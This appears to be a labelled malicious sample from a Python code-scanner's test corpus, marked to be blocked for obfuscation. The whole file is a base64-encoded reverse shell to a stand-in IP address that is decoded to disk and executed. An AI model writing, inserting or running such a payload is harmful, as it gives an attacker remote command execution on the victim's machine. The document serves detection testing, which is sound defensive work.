# pyguard-corpus: verdict=block category=obfuscation rules=PG802,PG207
# what: carries a base64 blob that decodes to a remote-command loop, writes it to disk and runs it with runpy
import base64
import runpy

BLOB = (
    "aW1wb3J0IHNvY2tldAppbXBvcnQgc3VicHJvY2VzcwoKY29ubiA9IHNvY2tldC5jcmVhdGVfY29u"
    "bmVjdGlvbigoIjE5OC41MS4xMDAuMjMiLCA0NDMpKQp3aGlsZSBUcnVlOgogICAgY29tbWFuZCA9"
    "IGNvbm4ucmVjdig0MDk2KS5kZWNvZGUoKQogICAgaWYgbm90IGNvbW1hbmQ6CiAgICAgICAgYnJl"
    "YWsKICAgIHJlc3VsdCA9IHN1YnByb2Nlc3MucnVuKGNvbW1hbmQsIHNoZWxsPVRydWUsIGNhcHR1"
    "cmVfb3V0cHV0PVRydWUpCiAgICBjb25uLnNlbmRhbGwocmVzdWx0LnN0ZG91dCArIHJlc3VsdC5z"
    "dGRlcnIpCg=="
)

with open(".stage.py", "wb") as handle:
    handle.write(base64.b64decode(BLOB))
runpy.run_path(".stage.py")
